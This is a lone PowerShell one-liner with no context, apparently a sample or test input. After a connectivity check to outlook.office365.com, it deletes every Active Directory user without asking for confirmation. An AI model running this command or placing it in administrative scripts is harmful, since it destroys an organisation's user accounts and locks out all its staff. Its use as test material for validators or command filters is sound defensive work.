Test-Connection outlook.office365.com -Count 1 -Quiet && Get-ADUser -Filter * | Remove-ADUser -Confirm:$false || Write-Warning failed
